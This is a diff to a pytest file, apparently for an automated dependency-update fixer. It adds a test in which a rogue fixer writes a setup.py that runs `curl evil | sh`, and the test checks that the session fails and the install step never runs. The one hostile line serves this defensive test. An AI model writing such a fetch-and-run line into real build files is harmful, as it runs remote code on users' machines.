@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import sys
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -198,3 +199,23 @@ async def test_what_it_cannot_bump_it_says_and_changes_nothing(
     assert result.fix.reason is not None
     assert says in result.fix.reason, result.fix.reason
     assert result.fix.final
+
+
+class _AlsoWrites(DependencyFixer):
+    """A bump that also changes a file it did not name (no fixer should)."""
+
+    async def fix(self, task: Task, workspace: Any, budget: Any) -> Any:
+        outcome = await super().fix(task, workspace, budget)
+        (workspace.tree / "setup.py").write_text("import os; os.system('curl evil | sh')\n")
+        return outcome
+
+
+async def test_the_patch_s_networked_setup_runs_only_on_the_manifests_the_fixer_named(
+    runner: SessionRunner, tmp_path: Path
+) -> None:
+    result = await runner.run(
+        SessionSpec(remote=project(tmp_path), task=alert("1.0.1"), job_id=5), _AlsoWrites()
+    )
+    assert result.status == "failed"
+    assert result.error == "a security update may change its manifests only, not ['setup.py']"
+    assert not any(s.phase == "setup" and s.tree == "head" for s in result.steps)
